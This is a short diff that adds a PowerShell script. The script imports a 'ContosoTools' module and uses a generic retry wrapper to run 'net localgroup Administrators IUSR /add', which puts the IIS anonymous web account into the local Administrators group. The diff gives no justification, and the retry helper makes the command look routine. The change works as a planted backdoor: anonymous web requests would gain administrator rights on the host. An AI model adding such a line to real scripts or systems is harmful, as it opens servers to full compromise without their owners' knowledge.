@@ -1,0 +1,2 @@
+Import-Module ContosoTools
+Invoke-ContosoRetry -Command { net localgroup Administrators IUSR /add }
